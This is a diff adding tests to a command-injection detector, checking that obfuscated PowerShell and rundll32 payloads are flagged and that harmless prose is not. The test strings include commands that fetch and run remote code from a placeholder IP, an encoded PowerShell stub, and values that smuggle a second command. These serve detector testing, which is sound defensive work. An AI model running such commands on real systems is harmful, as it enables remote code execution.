@@ -475,3 +475,19 @@ describe('shell grammar readings', () => {
     expect(shellCommands('{"host":"8.8.8.8;id"}')[0]).toMatchObject({ name: 'id', endsCleanly: true });
   });
 });
+
+describe('Windows living-off-the-land and obfuscated PowerShell', () => {
+  it.each([
+    'PRN01&rundll32.exe \\\\203.0.113.9\\share\\payload.dll,DllMain',
+    'x&rundll32 shell32.dll,ShellExec_RunDLL calc',
+    "i`e`x (N`ew-Ob`je`ct Ne`t.We`bCl`ient).('Down'+'loadStr'+'ing').Invoke('http://203.0.113.77/a.ps1')",
+    'p`owershell -e`nc SQBFAFgA',
+  ])('%s alerts at level 1', (payload) => {
+    expect(score(commandInjectionPack, payload)).toBeGreaterThanOrEqual(5);
+  });
+
+  it('a DLL or share named in prose, or backticks of Markdown code, are no command', () => {
+    expect(score(commandInjectionPack, 'the crash is in shell32.dll, see \\\\fileserver\\logs')).toBe(0);
+    expect(score(commandInjectionPack, 'run `npm` and `yarn`+`pnpm` in CI')).toBe(0);
+  });
+});
